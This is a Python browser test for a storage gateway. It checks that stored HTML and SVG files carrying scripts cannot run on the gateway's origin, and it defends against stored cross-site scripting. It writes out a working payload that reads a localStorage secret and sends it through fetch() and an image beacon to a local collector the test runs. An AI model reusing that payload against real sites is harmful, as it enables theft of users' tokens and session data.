#!/usr/bin/env python3
# SPDX-License-Identifier: MIT
"""tests/browser/stored_html.py: a stored page never runs script on the gateway's origin.

The attack (security findings 2 and 8): whoever holds an rw signed URL for
alice/ stores an HTML page and an SVG image with a script in each, and sends
a victim the get link. The gateway's own page (/_r2mpu/upload.html) has left
a secret in the origin's localStorage. In headless Chromium, against real
lighttpd + r2mpu, each script would
  (a) set a marker on its document, which the test reads,
  (b) fetch a collector on a local port the test listens on,
  (c) read the secret from localStorage and send it along.
None of it may happen:
  - by default the objects are attachments: downloaded, never rendered;
  - with R2MPU_INLINE_TYPES="text/html image/svg+xml" they are rendered,
    and the CSP sandbox stops the script.
A control page with the same script, from the collector's own origin and
without a CSP, must run: the test sees a script that runs. In both settings
a stored PNG is shown and a WAV plays (the allowlist and the media CSP).
Needs chromium, chromium-driver and python3-selenium (make deps).
"""

import http.server
import io
import os
import shutil
import struct
import subprocess
import sys
import tempfile
import threading
import time
import wave
import zlib

from lib import BIN
from lib.api import upload
from lib.checks import check, sanitizer_reports, summary
from lib.chromium import browser
from lib.servers import Lighttpd, free_port

SECRET = "stored-html-test-secret-0123456789abcdef"   # the signing secret
STOLEN = "victim-admin-token-7f3a9c"                  # what the victim's origin holds
SLOT = "r2mpu-victim-secret"                          # its localStorage key
SETTLE = 2.0                                          # seconds a script gets to act


def payload_script(collector, label):
    """The attacker's script: a marker, a beacon, and the victim's secret in it."""
    return """
var secret = "unread";
try { secret = localStorage.getItem("%(slot)s") || "absent"; } catch (e) { secret = "denied"; }
document.documentElement.setAttribute("data-ran", secret);
var to = "%(collector)s/hit/%(label)s?secret=" + encodeURIComponent(secret);
fetch(to, {mode: "no-cors"}).catch(function () {});
new Image().src = to + "&via=img";
""" % {"slot": SLOT, "collector": collector, "label": label}


def html_page(collector, label):
    return ("<!doctype html><title>alice</title><p id=visible>alice's page</p>"
            "<script>%s</script>" % payload_script(collector, label)).encode()


def svg_image(collector, label):
    return ('<svg xmlns="http://www.w3.org/2000/svg" width="20" height="20">'
            '<rect width="20" height="20" fill="red"/>'
            '<script><![CDATA[%s]]></script></svg>' % payload_script(collector, label)).encode()


def png_image(w=3, h=2):
    def chunk(kind, body):
        return (struct.pack(">I", len(body)) + kind + body +
                struct.pack(">I", zlib.crc32(kind + body) & 0xffffffff))
    rows = b"".join(b"\0" + b"\xff\x00\x00" * w for _ in range(h))
    return (b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", struct.pack(">IIBBBBB", w, h, 8, 2, 0, 0, 0)) +
            chunk(b"IDAT", zlib.compress(rows)) + chunk(b"IEND", b""))


def wav_sound():
    out = io.BytesIO()
    w = wave.open(out, "wb")
    w.setnchannels(1)
    w.setsampwidth(2)
    w.setframerate(8000)
    w.writeframes(b"\x00\x10" * 8000)   # one second
    w.close()
    return out.getvalue()


class Collector:
    """What the attacker listens with: every request it gets, and the control page."""

    def __init__(self):
        self.hits = []
        self.port = free_port()
        self.origin = "http://127.0.0.1:%d" % self.port
        hits = self.hits
        control = html_page(self.origin, "control")

        class Handler(http.server.BaseHTTPRequestHandler):
            def do_GET(self):
                hits.append(self.path)
                body = control if self.path == "/control.html" else b""
                self.send_response(200 if body else 204)
                if body:
                    self.send_header("Content-Type", "text/html")
                    self.send_header("Content-Length", str(len(body)))
                self.end_headers()
                self.wfile.write(body)

            def log_message(self, *args):
                pass

        self.server = http.server.ThreadingHTTPServer(("127.0.0.1", self.port), Handler)
        threading.Thread(target=self.server.serve_forever, daemon=True).start()

    def of(self, label):
        return [h for h in self.hits if h.startswith("/hit/%s?" % label)]

    def close(self):
        self.server.shutdown()
        self.server.server_close()


class SignedClient:
    """Requests with the attacker's signed query appended (lib.api.upload drives it)."""

    def __init__(self, inner, query):
        self.inner = inner
        self.query = query

    def request(self, method, target, *args, **kw):
        return self.inner.request(method, target + "&" + self.query, *args, **kw)


def marker(driver):
    return driver.execute_script(
        "return document.documentElement && document.documentElement.getAttribute('data-ran')")


def wait_for(predicate, timeout):
    deadline = time.time() + timeout
    while time.time() < deadline:
        if predicate():
            return True
        time.sleep(0.1)
    return predicate()


def downloaded(folder, name, body, timeout=10):
    path = os.path.join(folder, name)

    def done():
        try:
            with open(path, "rb") as f:
                return f.read() == body
        except OSError:
            return False
    return wait_for(done, timeout)


def attack(driver, gateway, query, collector, objects, inline, downloads):
    """Open each stored document's get link as the victim; nothing may run."""
    for label, key, body, rendered in objects:
        url = "%s/%s?action=get&%s" % (gateway, key, query)
        # The victim has used the gateway's page: its origin holds the secret.
        driver.get(gateway + "/_r2mpu/upload.html")
        driver.execute_script("localStorage.setItem(arguments[0], arguments[1])", SLOT, STOLEN)
        check("%s: the victim's origin holds the secret" % label,
              driver.execute_script("return localStorage.getItem(arguments[0])", SLOT) == STOLEN)
        driver.get(url)
        time.sleep(SETTLE)
        on_object = driver.current_url == url
        if inline:
            check("%s: rendered inline (R2MPU_INLINE_TYPES)" % label,
                  on_object and driver.execute_script(rendered),
                  (driver.current_url, driver.page_source[:200]))
        else:
            check("%s: downloaded as an attachment, not rendered" % label,
                  not on_object and downloaded(downloads, os.path.basename(key), body),
                  (driver.current_url, os.listdir(downloads)))
        check("%s: the script set no marker" % label, marker(driver) is None, marker(driver))
        check("%s: the collector got nothing" % label, not collector.of(label),
              collector.of(label))
        check("%s: the secret was not read" % label,
              not any(STOLEN in h for h in collector.of(label)) and
              STOLEN not in (marker(driver) or ""), collector.of(label))


def shown(driver, gateway, query, png_key, wav_key):
    """What stays inline works inline: the PNG is shown, the WAV plays (media CSP)."""
    driver.get("%s/%s?action=get&%s" % (gateway, png_key, query))
    size = driver.execute_script(
        "var i = document.images[0]; return i ? [i.naturalWidth, i.naturalHeight] : null")
    check("png: shown inline", size == [3, 2], size)
    driver.get("%s/%s?action=get&%s" % (gateway, wav_key, query))
    state = None
    for _ in range(50):
        state = driver.execute_script(
            "var m = document.querySelector('video, audio');"
            "return m ? [m.readyState, m.error && m.error.code, m.duration] : null")
        if state and (state[0] >= 1 or state[1]):
            break
        time.sleep(0.1)
    check("wav: plays inline (media CSP)", state is not None and state[0] >= 1 and not state[1]
          and abs(state[2] - 1.0) < 0.01, state)


def setting(sandbox, driver, collector, inline_types):
    """One gateway: alice stores her objects, the victim opens them."""
    name = "inline" if inline_types else "default"
    log = os.path.join(sandbox, "server-%s.log" % name)
    env = {"R2MPU_FS_ROOT": os.path.join(sandbox, "store-" + name), "R2MPU_PROCS": "2",
           "R2MPU_OPEN_ACCESS": "no", "R2MPU_SIGNING_SECRET": SECRET,
           "R2MPU_INLINE_TYPES": inline_types}
    print("== %s (R2MPU_INLINE_TYPES=%r)" % (name, inline_types), flush=True)
    with Lighttpd(env, log) as http:
        gateway = "http://127.0.0.1:%d" % http.port
        p = subprocess.run([BIN, "sign", "--prefix", "--rights", "rw", "--expires-in", "1h",
                            "alice/"], env=dict(os.environ, R2MPU_SIGNING_SECRET=SECRET),
                           capture_output=True, text=True, timeout=30)
        query = p.stdout.strip().partition("?")[2]
        check("alice's rw signed URL for alice/", p.returncode == 0 and query, p.stderr)
        alice = SignedClient(http, query)
        objects = [
            ("%s-html" % name, "alice/evil.html", html_page(collector.origin, "%s-html" % name),
             "return document.getElementById('visible').textContent == \"alice's page\""),
            ("%s-svg" % name, "alice/evil.svg", svg_image(collector.origin, "%s-svg" % name),
             "return document.documentElement.localName == 'svg'"),
        ]
        types = {".html": "text/html; charset=utf-8", ".svg": "image/svg+xml"}
        for label, key, body, _ in objects:
            upload(alice, key, [body], headers={"Content-Type": types[os.path.splitext(key)[1]]})
        upload(alice, "alice/dot.png", [png_image()], headers={"Content-Type": "image/png"})
        upload(alice, "alice/tone.wav", [wav_sound()], headers={"Content-Type": "audio/wav"})
        attack(driver, gateway, query, collector, objects, bool(inline_types),
               os.path.join(sandbox, "downloads"))
        shown(driver, gateway, query, "alice/dot.png", "alice/tone.wav")
    reports = sanitizer_reports(log)
    check("%s: no sanitizer reports" % name, not reports, reports)


def main():
    sandbox = tempfile.mkdtemp(prefix="r2mpu-stored-html-")
    os.makedirs(os.path.join(sandbox, "downloads"))
    collector = Collector()
    driver = None
    try:
        driver = browser()
        driver.execute_cdp_cmd("Browser.setDownloadBehavior", {
            "behavior": "allow", "downloadPath": os.path.join(sandbox, "downloads")})

        # The control: the same script, served without r2mpu's headers, runs.
        driver.get(collector.origin + "/control.html")
        check("control: a script that runs is seen (marker and collector)",
              wait_for(lambda: collector.of("control"), 10) and marker(driver) == "absent",
              (marker(driver), collector.hits))

        setting(sandbox, driver, collector, "")
        setting(sandbox, driver, collector, "text/html image/svg+xml")
    finally:
        if driver is not None:
            driver.quit()
        collector.close()
        shutil.rmtree(sandbox, ignore_errors=True)
    return summary("stored_html")


if __name__ == "__main__":
    sys.exit(main())
